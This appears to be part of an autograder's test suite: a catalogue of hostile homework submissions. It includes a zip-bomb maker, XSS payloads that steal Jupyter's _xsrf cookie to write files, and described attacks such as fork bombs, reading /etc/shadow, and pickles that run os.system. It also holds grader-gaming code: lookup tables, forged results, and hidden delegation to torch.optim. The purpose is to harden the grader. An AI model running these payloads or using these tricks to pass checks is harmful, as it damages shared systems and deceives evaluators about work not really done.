# Hostile files: decoding them in the grader would cost memory or time (autograder/bounded.py)
# A torch zip whose first tensor record is deflated: it expands to SIZE zero bytes when read
# (torch's reader inflates a record whole); about SIZE / 1000 bytes on disk.
DEFLATE_BOMB = """
def _deflate_bomb(raw, size):
    import io, zipfile
    source, out = zipfile.ZipFile(io.BytesIO(raw)), io.BytesIO()
    bombed = next(info.filename for info in source.infolist() if "/data/" in info.filename)
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename != bombed:
                target.writestr(zipfile.ZipInfo(info.filename), source.read(info))
                continue
            record = zipfile.ZipInfo(info.filename)
            record.compress_type = zipfile.ZIP_DEFLATED
            with target.open(record, "w", force_zip64=True) as stream:
                for _ in range(size // 2**20):
                    stream.write(bytes(2**20))
    return out.getvalue()
"""
PROBE_ZIP_BOMB = (
    code(DEFLATE_BOMB)
    + """
import glob, os, torch, io
_buffer = io.BytesIO()
torch.save({"result": torch.zeros(4)}, _buffer)
_bomb = _deflate_bomb(_buffer.getvalue(), 256 * 2**20)
for _path in glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")):
    with open(_path, "wb") as _file:
        _file.write(_bomb)
print("probe files: torch zips of", len(_bomb), "bytes that inflate to 256 MiB")
"""
)
PROBE_ZERO_STRIDE = """
import glob, os, torch
for _path in glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")):
    torch.save({"result": torch.zeros(1).expand(2**40)}, _path)  # 2**40 numbers over one stored
"""
PROBE_BILLION_LAUGHS = """
import glob, os, torch
_laughs = [1.0]
for _ in range(12):
    _laughs = [_laughs] * 10  # 10**12 leaves, a few hundred bytes pickled (memo references)
for _path in glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")):
    torch.save({"result": _laughs}, _path)
"""
# Notebook 1 runs after notebook 2 (the runner starts the biggest first), or before it: either
# way 02's executed copy ends up as 7.5 MB of [[],[],...] (read-only: the runner cannot replace it).
EXECUTED_JSON_BOMB = """
import os
_path = "executed/02_ema_adam.ipynb"
if os.path.exists(_path):
    os.unlink(_path)
with open(_path, "w") as _file:
    _file.write('{"cells": [' + "[]," * (2500 * 1000) + '[]]}')
os.chmod(_path, 0o444)
"""


def ec_model_bomb(path: Path, size: int = 256 * 2**20) -> None:
    """A handed-in EC1 model file whose first tensor record inflates to ``size`` bytes when
    torch.load reads it."""
    import hw2utils
    from ec_networks import rule_network

    hw2utils._write_ec_model(rule_network(), path, saved_by="save_ec_model")
    scope: dict = {}
    exec(code(DEFLATE_BOMB), scope)  # the same maker as the attack cells'
    path.write_bytes(scope["_deflate_bomb"](path.read_bytes(), size))


def many_markdown_cells(nb: dict) -> None:
    """100,000 added markdown cells (about 6 MB): recording them took 104 s instead of 30."""
    nb["cells"] += [
        {"cell_type": "markdown", "metadata": {}, "source": f"note {i}"} for i in range(100_000)
    ]


# Markup: student HTML, SVG, CSS and script for the instructor's browser ---------------------
# Each payload, if it ran in formgrader's page (logged in to the course's Jupyter server),
# would PUT a file into the course folder through /api/contents with the _xsrf cookie, ask
# the server for /payload-<name> and open a dialog. tests/test_browser_formgrader.py opens
# them in Chromium; here they are graded as written answers and an added markdown cell.
MARKUP_FILE = "hw2-markup-pwned-{name}.txt"  # what a payload that ran writes into the course
MARKUP_FLAG = "active content removed"


def markup_script(name: str) -> str:
    """The payload's script as ``eval(atob('...'))``: no space, no double quote, no bracket
    that a markdown link or an HTML attribute would end on."""
    import base64

    script = (
        "(function(){var m=document.cookie.match(/_xsrf=([^;]+)/);"
        f"fetch('/api/contents/{MARKUP_FILE.format(name=name)}',{{method:'PUT',"
        "credentials:'same-origin',headers:{'Content-Type':'application/json',"
        "'X-XSRFToken':m?decodeURIComponent(m[1]):''},"
        f"body:JSON.stringify({{type:'file',format:'text',content:'{name}'}})}});"
        f"fetch('/payload-{name}');alert('{name}')}})()"
    )
    return f"eval(atob('{base64.b64encode(script.encode()).decode()}'))"


def _markup_payloads() -> dict[str, str]:
    """{name: markdown} of every payload; each also names /payload-<name> where a request is
    its only effect."""
    js = markup_script
    return {
        "script": f"<script>{js('script')}</script>",
        "svg_onload": f'<svg onload="{js("svg_onload")}"><circle r="1"></circle></svg>',
        "iframe_srcdoc": f'<iframe srcdoc="&lt;script&gt;{js("iframe_srcdoc")}&lt;/script&gt;"></iframe>',
        "img_onerror": f'<img src="/payload-img_src" onerror="{js("img_onerror")}">',
        "md_link": f"[click for the derivation](javascript:{js('md_link')})",
        "a_href": f'<a id="hw2-a-href" href="javascript:{js("a_href")}">click for the plot</a>',
        "style": "<style>@import url('/payload-style'); body { background: url('/payload-style_bg'); }</style>",
        "meta_refresh": '<meta http-equiv="refresh" content="1;url=/payload-meta_refresh">',
        "base_href": '<base href="/payload-base_href/">',
        "form": (
            f'<form action="/payload-form" method="get"><input name="q" autofocus '
            f'onfocus="{js("form")}"><button id="hw2-form-button">send</button></form>'
        ),
        "object_embed": '<object data="/payload-object"></object><embed src="/payload-embed">',
        "math_xlink": (
            f'<math><maction actiontype="statusline" xlink:href="javascript:{js("math_xlink")}">'
            f"<mtext>click</mtext></maction></math>"
        ),
        "svg_animate": (
            f'<svg width="80" height="30"><a id="hw2-svg-a"><animate attributeName="href" '
            f'values="javascript:{js("svg_animate")}"/><text x="5" y="20">click</text></a></svg>'
        ),
        "entity_link": f"[see](&#106;avascript:{js('entity_link')})",
        "mathjax_href": f"$\\href{{javascript:{js('mathjax_href')}}}{{click}}$",
    }


MARKUP_PAYLOADS = _markup_payloads()
# What a grader must still read: prose, maths with < and > (and a quote, a list, code)
MARKUP_PROSE = (
    "A large step overshoots: with $\\eta > 2/L$ the iterates diverge, and "
    "$|1 - \\eta L| < 1$ is needed."
)


def markup_answer(names) -> str:
    return "\n\n".join(
        [
            MARKUP_PROSE,
            *(MARKUP_PAYLOADS[n] for n in names),
            "> so the loss grows\n\n- `lr=0.5` diverges",
        ]
    )


def add_markup_cell(nb):
    """An added markdown cell carrying every payload, after the first written answer."""
    index = next(
        i
        for i, c in enumerate(nb["cells"])
        if c["cell_type"] == "markdown" and nbgrader(c).get("solution")
    )
    nb["cells"].insert(
        index + 1,
        {"cell_type": "markdown", "metadata": {}, "source": markup_answer(MARKUP_PAYLOADS)},
    )


# Answer tables: the reference's outputs for the probes' inputs of the default seed, computed
# here (at import, outside grading) and pasted into the answer as a literal; anything else gets
# garbage. The grader draws every probe's inputs afresh for each run (hw2probes.case_seed), so
# the table matches nothing there.


def _ema_table() -> dict:
    """{(x_t, beta, t, ema_star_old): (ema, ema_star_t)} of Task 2.2's formula on every float
    input the ema_update probes make with the default seed, sequences included."""
    import hw2probes
    from hw2checks import part2

    table = {}

    def add(x, beta, t, old):
        star = beta * old + (1 - beta) * x
        table[(x, beta, t, old)] = (star / (1 - beta**t), star)
        return star

    with hw2probes.seeded(None):
        for floats, xs, betas in (part2.ema_formula_cases(), part2.ema_bias_correction_cases()):
            for case in floats:
                add(*case)
            for beta in betas:
                state = 0.0
                for t, x in enumerate(xs, start=1):
                    state = add(x, beta, t, state)
    return table


EMA_TABLE = f"""
_TABLE = {_ema_table()!r}


def ema_update(x_t, beta, t, ema_star_old):
    \"\"\"Looked up, not computed: (ema, ema_star_t) from a table made at home.\"\"\"
    return _TABLE.get((x_t, beta, t, ema_star_old), (0.0, 0.0))
"""


def _descend_table() -> dict:
    """{(start rounded to 5 digits, steps): the points gradient descent visits, and where it
    ends} for every case the descend probes make with the default seed (reference_path)."""
    import hw2probes
    from hw2checks import part1 as shipped
    from hw2utils import BOWL_MATRIX

    reference_path = shipped.reference_path
    table = {}
    with hw2probes.seeded(None):
        # the in-place case (tuples, no dtype) is no BowlCase: only B, start, lr and steps are read
        cases: list[tuple[Any, ...]] = shipped.matches_reference_cases() + shipped.tensor_lr_cases()
        cases.append(
            (
                BOWL_MATRIX,
                shipped.in_place_start(),
                shipped.IN_PLACE_LR,
                shipped.IN_PLACE_STEPS,
                None,
            )
        )
        for B, start, lr, steps, _ in cases:
            path = reference_path(B, start, lr, steps + 1)
            table[(*[round(v, 5) for v in start], steps)] = path.tolist()
    return table


DESCEND_TABLE = f"""
import torch

_TABLE = {_descend_table()!r}


def descend(loss_fn, x, lr, steps):
    \"\"\"Looked up, not computed: the table's points are passed to loss_fn in turn, and x
    ends where the table says; a start not in the table stays where it is.\"\"\"
    path = _TABLE.get((*[round(v, 5) for v in x.detach().double().cpu().tolist()], steps))
    if path is None:
        return x
    for point in path[:steps]:
        with torch.no_grad():
            x.copy_(torch.tensor(point, dtype=x.dtype))
        loss_fn(x)
    with torch.no_grad():
        x.copy_(torch.tensor(path[steps], dtype=x.dtype))
    x.grad = None
    return x
"""

# Delegation, second round: each route is exercised in the isolated run (hw2probes.isolated) --

DESCEND_OPENLY = """
def descend(loss_fn, x, lr, steps):
    optimizer = torch.optim.SGD([x], lr=lr)  # Task 1.1 asks for the update by hand
    for _ in range(steps):
        optimizer.zero_grad()
        loss_fn(x).backward()
        optimizer.step()
    x.grad = None
    return x
"""

SGD_VIA_GETMEMBERS = """
import inspect
_optim = dict(inspect.getmembers(torch))["op" + "tim"]
_Optimizer = dict(inspect.getmembers(_optim))["Opti" + "mizer"]
_original_init = _Optimizer.__init__


class SimpleGradientDescent(dict(inspect.getmembers(_optim))["S" + "GD"]):
    def __init__(self, parameters, lr=0.1, weight_decay=0.0):
        _Optimizer.__init__ = _original_init  # undo any refusal of torch.optim
        super().__init__(parameters, lr=lr, weight_decay=weight_decay)
        self.lr, self.weight_decay = lr, weight_decay
"""

ADAM_VIA_ATTRGETTER = """
import operator
_Optimizer = operator.attrgetter("op" + "tim.Optimizer")(torch)
_original_init = _Optimizer.__init__


class ADAMOptimizer(operator.attrgetter("op" + "tim.Adam")(torch)):
    def __init__(self, parameters, lr=0.1, betas=(0.9, 0.999), eps=1e-8, weight_decay=0.0):
        _Optimizer.__init__ = _original_init
        super().__init__(parameters, lr=lr, betas=betas, eps=eps, weight_decay=weight_decay)
        self.lr, (self.beta1, self.beta2), self.eps, self.weight_decay = lr, betas, eps, weight_decay
"""

RUNNER_PATCH_IN_ANSWER = LAZY_SGD + "\n\n" + PROBE_RUNNER_REPLACED

RUNNER_PATCH_VIA_ALIAS = """
import torch
import hw2checks
_m = hw2checks.part1  # an alias: no import statement names the module patched below


def _torch_path(make, params, steps, loss=hw2checks.quartic_loss, clear=None):
    mine = make(iter(params))
    settings = {"lr": mine.lr, "weight_decay": mine.weight_decay}
    return hw2checks.run_steps(lambda p: torch.optim.SGD(p, **settings), params, steps, loss)


def _torch_paths(makers, groups, steps, loss=hw2checks.quartic_loss, clear=None):
    return [_torch_path(make, params, steps, loss) for make, params in zip(makers, groups)]


_m.run_steps = _torch_path
_m.run_in_turn = _torch_paths
"""

ADAM_FROM_GC = """
import gc
_Adam = next(o for o in gc.get_objects() if isinstance(o, type) and o.__name__ == "Adam"
             and o.__module__.startswith("torch"))


class ADAMOptimizer(_Adam):
    def __init__(self, parameters, lr=0.1, betas=(0.9, 0.999), eps=1e-8, weight_decay=0.0):
        super().__init__(parameters, lr=lr, betas=betas, eps=eps, weight_decay=weight_decay)
        self.lr, (self.beta1, self.beta2), self.eps, self.weight_decay = lr, betas, eps, weight_decay
"""

FRAME_WALK = """
import sys


class SimpleGradientDescent:
    \"\"\"step() finds the probe's frames and writes torch.optim.SGD's path into what they hold.\"\"\"

    def __init__(self, parameters, lr=0.1, weight_decay=0.0):
        self.parameters, self.lr, self.weight_decay = list(parameters), lr, weight_decay

    def step(self):
        frame = sys._getframe().f_back
        while frame is not None:
            if "params" in frame.f_locals:  # hw2checks.run_steps: do its step with torch's SGD
                torch.optim.SGD(self.parameters, lr=self.lr, weight_decay=self.weight_decay).step()
                return
            frame = frame.f_back

    def zero_grad(self):
        for p in self.parameters:
            p.grad = None
"""

RELOAD_TORCH_OPTIM = """
import importlib
import sys
for _name in [n for n in sys.modules if n.startswith("torch.op" + "tim")]:
    importlib.reload(sys.modules[_name])  # fresh code objects, in case the old ones were changed


class ADAMOptimizer(sys.modules["torch.op" + "tim.adam"].Adam):
    def __init__(self, parameters, lr=0.1, betas=(0.9, 0.999), eps=1e-8, weight_decay=0.0):
        super().__init__(parameters, lr=lr, betas=betas, eps=eps, weight_decay=weight_decay)
        self.lr, (self.beta1, self.beta2), self.eps, self.weight_decay = lr, betas, eps, weight_decay
"""

EXEC_TORCH_SOURCE = """
import os
import sys
_namespace = {"__name__": "torch.op" + "tim.sgd_copy", "__package__": "torch.op" + "tim"}
_folder = os.path.dirname(sys.modules["torch.op" + "tim"].__file__)
with open(os.path.join(_folder, "optimizer.py")) as _f:
    exec(compile(_f.read(), "optimizer_copy.py", "exec"), _namespace)
with open(os.path.join(_folder, "sgd.py")) as _f:
    _sgd = _f.read().replace("from .optimizer import", "from torch.op" + "tim.optimizer import")
exec(compile(_sgd, "sgd_copy.py", "exec"), _namespace)
SimpleGradientDescent = _namespace["S" + "GD"]
"""

FUSED_ADAM = """
class ADAMOptimizer:
    \"\"\"Adam through torch's fused kernel, not torch.optim.\"\"\"

    def __init__(self, parameters, lr=0.1, betas=(0.9, 0.999), eps=1e-8, weight_decay=0.0):
        self.lr = lr
        self.beta1, self.beta2 = betas
        self.eps = eps
        self.weight_decay = weight_decay
        self.parameters = list(parameters)
        self.m = [torch.zeros_like(p) for p in self.parameters]
        self.v = [torch.zeros_like(p) for p in self.parameters]
        self.t = [torch.zeros((), dtype=torch.float32) for p in self.parameters]

    def step(self):
        with torch.no_grad():
            for p, m, v, t in zip(self.parameters, self.m, self.v, self.t):
                if p.grad is not None:
                    torch._fused_adam_([p], [p.grad], [m], [v], [], [t], lr=self.lr, beta1=self.beta1,
                                       beta2=self.beta2, weight_decay=self.weight_decay, eps=self.eps,
                                       amsgrad=False, maximize=False)

    def zero_grad(self):
        for p in self.parameters:
            p.grad = None
"""

SUBPROCESS_DESCEND = """
import json
import subprocess
import sys

_PROGRAM = '''
import json, sys, torch
B, start, lr, steps = json.loads(sys.stdin.read())
x = torch.tensor(start, dtype=torch.float64, requires_grad=True)
optimizer = torch.optim.SGD([x], lr=lr)
path = []
for _ in range(steps):
    optimizer.zero_grad()
    torch.linalg.vector_norm(torch.tensor(B, dtype=torch.float64) @ x).backward()
    optimizer.step()
    path.append(x.tolist())
print(json.dumps(path))
'''


def descend(loss_fn, x, lr, steps):
    \"\"\"torch.optim.SGD's path, computed in another process, replayed through loss_fn.\"\"\"
    B = getattr(loss_fn, "B", torch.eye(x.numel())).tolist()
    rates = lr.tolist() if isinstance(lr, torch.Tensor) else lr
    out = subprocess.run([sys.executable, "-c", _PROGRAM], input=json.dumps([B, x.tolist(), rates, steps]),
                         capture_output=True, text=True, check=True).stdout
    for point in json.loads(out):
        loss_fn(x)
        with torch.no_grad():
            x.copy_(torch.tensor(point, dtype=x.dtype))
    return x
"""

HONEST_DEMO_IN_ANSWER = """
class SimpleGradientDescent:
    \"\"\"Gradient descent on L(p) = L_obj(p) + weight_decay / 2 * ||p||^2.\"\"\"

    def __init__(self, parameters, lr=0.1, weight_decay=0.0):
        self.lr = lr
        self.weight_decay = weight_decay
        self.parameters = list(parameters)

    def step(self):
        with torch.no_grad():
            for p in self.parameters:
                if p.grad is not None:
                    p -= self.lr * (p.grad + self.weight_decay * p)

    def zero_grad(self):
        for p in self.parameters:
            p.grad = None


# a comparison with torch's own SGD, as a student might leave it in the answer cell
_mine, _theirs = torch.ones(3, requires_grad=True), torch.ones(3, requires_grad=True)
_opt_mine, _opt_theirs = SimpleGradientDescent([_mine], lr=0.1), torch.optim.SGD([_theirs], lr=0.1)
for _p, _opt in ((_mine, _opt_mine), (_theirs, _opt_theirs)):
    (_p ** 2).sum().backward()
    _opt.step()
print("same step as torch.optim.SGD:", torch.allclose(_mine, _theirs))
"""

HONEST_COMPARISON_CELL = """
_x = torch.tensor([1.0, -1.0], requires_grad=True)
_reference = torch.optim.Adam([_x], lr=0.1)
(_x ** 2).sum().backward()
_reference.step()
print("torch.optim.Adam after one step:", _x.tolist())
"""

# Task 2.2 answered with the reference that Adam's probes are given in the isolated run
BORROW_GIVEN_EMA = code("""
import importlib

for _module in ("hw2probes.given", "hw2probes.part2"):
    try:
        ema_update = importlib.import_module(_module).GIVEN["ema_update"]
        print("borrowed from", _module)
        break
    except Exception as _error:
        print("could not borrow from", _module, repr(_error))
""")

ATTACKS = [
    # Harming others first: they run while the reference is graded in the other slot ----------
    Attack(
        "attack_other_scratch",
        "writing",
        NB1,
        "for 10 s, writes garbage into the probe, executed and notebook folders of every "
        "other student graded under /tmp/hw2-grading-*",
        None,
        base="answers",
        cells=((END, ATTACK_OTHER_SCRATCH),),
    ),
    Attack(
        "fork_bomb",
        "processes",
        NB1,
        "a detached process forks until the process limit, every copy retrying forever",
        "outlived its notebooks",
        cells=((TOP, FORK_BOMB),),
    ),
    Attack(
        "kill_everything",
        "signals",
        NB1,
        "after its checks: kills every process it can see, then kill(-1, SIGKILL)",
        "could not be graded",
        base="answers",
        cells=((END, KILL_EVERYTHING),),
    ),
    Attack(
        "walk_for_solutions",
        "reading",
        NB1,
        "walks /tmp, /home, /work, ... for notebooks holding answers (the reference, "
        "classmates' hand-ins, graded notebooks) and runs the first it finds in added cells "
        "after each answer cell",
        None,
        cells=((TOP, WALK_FOR_SOLUTIONS), *map(run_stolen, STEAL_INTO_CELLS)),
    ),
    # Rebinding the checks or the probe ---------------------------------------------------------
    Attack(
        "record_noop",
        "rebinding",
        NB1,
        "hw2probes.record rebound to print 'all checks passed'",
        None,
        cells=(
            (
                TOP,
                "import hw2probes\nhw2probes.record = lambda *args, **kwargs: print('all checks passed')",
            ),
        ),
    ),
    Attack(
        "record_forges_data",
        "rebinding",
        NB1,
        "hw2probes.record rebound to save {'result': 'passed', 'passed': True, ...}",
        "the check's data",
        cells=((TOP, FORGED_RECORD),),
    ),
    Attack(
        "collect_forges_result",
        "rebinding",
        NB1,
        "hw2probes.collect rebound to return {'result': 'passed'} for every check",
        "the check's data",
        cells=(
            (
                TOP,
                "import hw2probes\nhw2probes.collect = lambda *args: {'result': 'passed'}",
            ),
        ),
    ),
    Attack(
        "probes_return_fakes",
        "rebinding",
        NB1,
        "every aspect check_* of hw2checks.part1 replaced by one whose probe returns a path of no "
        "steps (the policed tasks' probes no longer run in the notebook: the reader names the "
        "setattr)",
        "hides what it calls",
        cells=(
            (
                TOP,
                code("""
               import dataclasses
               import hw2checks.part1 as _part1
               for _name in [n for n in dir(_part1) if n.startswith("check_")]:
                   _fake = lambda *objects: [{"calls": 0, "xs": []}]
                   setattr(_part1, _name, dataclasses.replace(getattr(_part1, _name), probe=_fake))
               """),
            ),
        ),
    ),
    Attack(
        "fake_hw2probes_in_working_folder",
        "rebinding",
        NB1,
        "overwrites the scratch folder's hw2probes/__init__.py with a record() that writes "
        "'all checks passed' as the data",
        "the check's data",
        cells=((TOP, PLANT_IN_WORKING_FOLDER),),
    ),
    Attack(
        "fake_hw2probes_on_sys_path",
        "rebinding",
        NB1,
        "plants a fake hw2probes package in tmp/ and puts it first on sys.path",
        "the check's data",
        cells=((TOP, PLANT_ON_SYS_PATH),),
    ),
    Attack(
        "fake_autograder_package",
        "rebinding",
        NB1,
        "plants an autograder package whose checks and judges all pass, in the working folder "
        "and on sys.path, hoping the grader imports it",
        None,
        cells=((TOP, FAKE_AUTOGRADER),),
    ),
    Attack(
        "probe_module_edited",
        "rebinding",
        NB1,
        "appends to the scratch copy of hw2checks/part1.py aspects whose probes return "
        "{'passed': True} (too late for the notebook's own import; the policed tasks' probes run "
        "elsewhere)",
        None,
        cells=((TOP, EDIT_PROBE_MODULE),),
    ),
    Attack(
        "shadowed_dunder_import",
        "rebinding",
        NB1,
        "a global __import__ in the notebook's namespace hands the probe call a fake hw2probes",
        "the check's data",
        cells=((TOP, SHADOW_IMPORT),),
    ),
    # IPython machinery -------------------------------------------------------------------------
    Attack(
        "input_transformer",
        "ipython",
        NB1,
        "an input transformer empties every cell naming hw2probes",
        None,
        cells=((TOP, INPUT_TRANSFORMER),),
    ),
    Attack(
        "ast_transformer",
        "ipython",
        NB1,
        "an AST transformer replaces the probe call by print('all cases passed')",
        None,
        cells=((TOP, AST_TRANSFORMER),),
    ),
    Attack(
        "post_run_cell_forgery",
        "ipython",
        NB1,
        "a post_run_cell event overwrites every probe file after each cell",
        "the check's data",
        cells=((TOP, POST_RUN_CELL),),
    ),
    Attack(
        "settrace_forgery",
        "ipython",
        NB1,
        "sys.settrace rebinds hw2probes.to_bytes as record() starts, so forged bytes are saved",
        "the check's data",
        cells=((TOP, SETTRACE),),
    ),
    Attack(
        "hidden_errors",
        "ipython",
        NB1,
        "set_custom_exc, sys.excepthook and IPython's showtraceback print 'all cases passed' "
        "instead of any error",
        None,
        cells=((TOP, HIDE_ERRORS),),
    ),
    # Notebook JSON -------------------------------------------------------------------------------
    Attack(
        "tags_skip_execution",
        "notebook_json",
        NB1,
        "tags skip-execution and raises-exception on every test cell",
        "skip-execution",
        edit=each_test_cell(_tag),
    ),
    Attack(
        "test_source_edited",
        "notebook_json",
        NB1,
        "every test cell's source replaced by print('... all cases passed')",
        "source edited",
        edit=each_test_cell(_rewrite),
    ),
    Attack(
        "test_cells_deleted",
        "notebook_json",
        NB1,
        "every test cell deleted",
        "missing: scores 0",
        edit=delete_tests,
    ),
    Attack(
        "test_cells_made_markdown",
        "notebook_json",
        NB1,
        "every test cell turned into markdown",
        "cell type changed",
        edit=each_test_cell(_markdown),
    ),
    Attack(
        "forged_grade_cell",
        "notebook_json",
        NB1,
        "an added cell with forged nbgrader metadata: a locked test cell worth 100 points",
        "nbgrader metadata the release does not have",
        edit=add_forged_grade_cell,
    ),
    Attack(
        "points_and_locks_changed",
        "notebook_json",
        NB1,
        "every test cell worth 100 times its points, unlocked, editable and deletable",
        "nbgrader metadata changed",
        edit=each_test_cell(_points_and_locks),
    ),
    Attack(
        "duplicated_grade_id",
        "notebook_json",
        NB1,
        "a copy of the first test cell, worth 100 points and running nothing, placed before it",
        "duplicated",
        edit=duplicate_first_test,
    ),
    Attack(
        "kernelspec_changed",
        "notebook_json",
        NB1,
        "the notebook's kernel and language set to bash",
        "language",
        edit=bash_kernel,
    ),
    Attack(
        "forged_outputs",
        "notebook_json",
        NB1,
        "every test cell handed in with 'all cases passed' outputs and an execution count",
        None,
        edit=each_test_cell(_passed_output),
    ),
    # Reading what the sandbox must hide --------------------------------------------------------
    Attack(
        "read_the_kit",
        "reading",
        NB1,
        "reads and lists the kit (source notebooks, hidden checks), found from sys.path, and "
        "runs the reference's answers if it could read them",
        None,
        cells=((TOP, READ_THE_KIT), *map(run_stolen, STEAL_INTO_CELLS)),
    ),
    Attack(
        "borrow_the_given_ema",
        "reading",
        NB2,
        "answers Task 2.2 with the reference EMA the grader gives Adam's probes "
        "(hw2probes.given, and where it lived before, hw2probes.part2)",
        None,
        answers=(("ema_update", BORROW_GIVEN_EMA),),
    ),
    Attack(
        "read_the_gradebook",
        "reading",
        NB1,
        "walks for gradebook.db, reads the students in it and tries to set every score to the maximum",
        None,
        cells=((TOP, READ_GRADEBOOK),),
    ),
    Attack(
        "read_secrets",
        "reading",
        NB1,
        "reads os.environ, /proc/*/environ, cwd, root and mem of other users' processes, /etc/shadow",
        None,
        cells=((TOP, READ_SECRETS),),
    ),
    # Writing outside the scratch folder --------------------------------------------------------
    Attack(
        "write_the_kit",
        "writing",
        NB1,
        "appends code to the kit's checks, judging.py, hw2utils.py, hw2checks.py, hw2probes, the source "
        "notebook, a .pth and sitecustomize.py in the site-packages of the kit and of the "
        "sandbox's interpreter; writes results.json",
        None,
        cells=((TOP, WRITE_OUTSIDE),),
    ),
    Attack(
        "persist_for_next_student",
        "writing",
        NB1,
        "leaves files in /tmp, /var/tmp, /dev/shm, /run/lock and a SysV shared-memory segment "
        "for the next student graded in its slot",
        None,
        cells=((TOP, PERSIST),),
    ),
    # Forged probe data -------------------------------------------------------------------------
    Attack(
        "probe_data_garbage",
        "probe_data",
        NB1,
        "a last added cell overwrites every probe file with bytes that are not a torch file",
        "the check's data",
        cells=((END, GARBAGE_AT_END),),
    ),
    Attack(
        "probe_data_pickle",
        "probe_data",
        NB1,
        "a last added cell saves every probe file as a pickle whose loading runs os.system as the loader",
        "the check's data",
        cells=((END, PICKLE_AT_END),),
    ),
    Attack(
        "probe_data_symlinks",
        "probe_data",
        NB1,
        "a last added cell replaces every probe file by a link to /etc/shadow, the source "
        "notebook, /dev/zero or /proc/self/environ",
        "the check's data",
        cells=((END, SYMLINKS_AT_END),),
    ),
    Attack(
        "probe_data_odd_files",
        "probe_data",
        NB1,
        "a last added cell makes the probe files a FIFO, a hard link, a sparse 900 MB file, "
        "40 MB of noise and a folder",
        "the check's data",
        cells=((END, ODD_FILES_AT_END),),
    ),
    Attack(
        "executed_notebook_symlink",
        "probe_data",
        NB1,
        "makes executed/01_gradient_descent.ipynb a link before the runner writes it",
        "executed notebook was unreadable",
        cells=((TOP, EXECUTED_SYMLINK),),
    ),
    # Processes and signals ---------------------------------------------------------------------
    Attack(
        "detached_processes",
        "processes",
        NB1,
        "Popen(start_new_session=True) of a Python and a shell that ignore SIGTERM and sleep",
        "outlived its notebooks",
        cells=((TOP, SURVIVOR),),
    ),
    Attack(
        "double_fork_setsid",
        "processes",
        NB1,
        "fork, setsid, fork again, exec a sleeper",
        "outlived its notebooks",
        cells=((TOP, DOUBLE_FORK),),
    ),
    Attack(
        "rewriter_daemon",
        "processes",
        NB1,
        "a double-forked daemon waits while notebook 2 runs, then rewrites notebook 1's executed "
        "copy (every output 'all cases passed') and its probe files",
        # whether it rewrites before it is killed depends on which notebook runs last:
        # what it rewrites never counts, and the process is always seen
        "outlived its notebooks",
        cells=((END, REWRITER),),
        also=(NB2,),
    ),
    Attack(
        "kill_the_runner",
        "signals",
        NB1,
        "SIGKILL to its parent, the notebook runner",
        "could not be graded",
        cells=((TOP, KILL_PARENT),),
    ),
    Attack(
        "os_exit",
        "signals",
        NB1,
        "os._exit(0) in an early cell",
        "could not be graded",
        cells=((TOP, OS_EXIT),),
    ),
    Attack(
        "sigalrm_forgery",
        "signals",
        NB1,
        "a SIGALRM handler every 50 ms overwrites every probe file with forged data",
        "the check's data",
        cells=((TOP, SIGALRM), (END, LINGER)),
    ),
    # Patching torch, numpy, math, builtins -----------------------------------------------------
    Attack(
        "patched_comparisons",
        "patching",
        NB1,
        "torch.allclose/equal/isclose, torch.testing.assert_close, math.isclose, numpy.allclose "
        "always true; builtins.isinstance true for torch.Tensor",
        None,
        cells=((TOP, PATCHING),),
    ),
    # Delegation to torch.optim -----------------------------------------------------------------
    Attack(
        "delegation_hidden_in_answer",
        "delegation",
        NB1,
        "SimpleGradientDescent subclasses torch.optim.SGD found by importlib and getattr, and "
        "restores torch.optim.Optimizer.__init__ that the probe patched",
        "reaches torch.optim",
        answers=(("sgd_optimizer", HIDDEN_DELEGATION),),
    ),
    Attack(
        "delegation_in_added_cell",
        "delegation",
        NB1,
        "the answer cell left as released; an added cell after it rebinds SimpleGradientDescent "
        "to a torch.optim.SGD subclass that restores Optimizer.__init__",
        "reaches torch.optim",
        cells=(("sgd_optimizer", DELEGATION_IN_ADDED_CELL),),
    ),
    Attack(
        "probe_runner_replaced",
        "delegation",
        NB1,
        "SimpleGradientDescent's step() does nothing; an added cell replaces the probe's runners "
        "(hw2checks.part1.run_steps, run_in_turn) with torch.optim.SGD runs, restoring "
        "Optimizer.__init__",
        "reaches torch.optim",
        answers=(("sgd_optimizer", LAZY_SGD),),
        cells=(("sgd_optimizer", PROBE_RUNNER_REPLACED),),
    ),
    Attack(
        "adam_delegation_eval",
        "delegation",
        NB2,
        "ADAMOptimizer subclasses torch.optim.Adam reached through eval, restoring Optimizer.__init__",
        "reaches torch.optim",
        answers=(("adam_optimizer", ADAM_DELEGATION),),
    ),
    # Resources ---------------------------------------------------------------------------------
    Attack(
        "fill_the_disk",
        "resources",
        NB1,
        "writes one file until the file-size limit stops it (at most 1.2 GB), SIGXFSZ ignored",
        None,
        cells=((TOP, FILL_THE_DISK),),
    ),
    # Handed-in files ---------------------------------------------------------------------------
    Attack(
        "extra_files",
        "handed_in",
        NB1,
        "hands in sitecustomize.py and usercustomize.py that run code as root, hw2probes.py, "
        "hw2utils.py, hw2checks.py, a hw2checks package and autograder/checks/part1.py that always "
        "pass, a .pth, a "
        "gradebook.db",
        "ignored sitecustomize.py",
        base="answers",
        files=(
            ("sitecustomize.py", text_file(ROOT_SITECUSTOMIZE)),
            ("usercustomize.py", text_file(ROOT_SITECUSTOMIZE)),
            ("zz_hw2corpus.pth", text_file(f"import os; os.system({ROOT_PAYLOAD!r})")),
            ("hw2probes.py", text_file(ALWAYS_PASSING_CHECKS)),
            ("hw2utils.py", text_file(ALWAYS_PASSING_CHECKS)),
            ("hw2checks.py", text_file(ALWAYS_PASSING_CHECKS)),
            ("hw2checks/__init__.py", text_file(ALWAYS_PASSING_CHECKS)),
            ("hw2checks/part1.py", text_file(ALWAYS_PASSING_CHECKS)),
            ("autograder/checks/part1.py", text_file(ALWAYS_PASSING_CHECKS)),
            ("gradebook.db", text_file("not a database")),
        ),
    ),
    Attack(
        "symlinked_model_file",
        "handed_in",
        NB1,
        "hands in ec_transfer_model.pt as a link to /etc/shadow and reads it back in the kernel",
        "a symbolic link",
        files=(("ec_transfer_model.pt", link_to("/etc/shadow")),),
        cells=((TOP, READ_HANDED_IN_LINK),),
    ),
    Attack(
        "pickled_model_file",
        "handed_in",
        NB4,
        "hands in an EC1 model file whose unpickling runs os.system as the grader",
        None,
        files=(("ec_transfer_model.pt", pickled_model),),
    ),
    Attack(
        "model_file_written_while_graded",
        "handed_in",
        NB4,
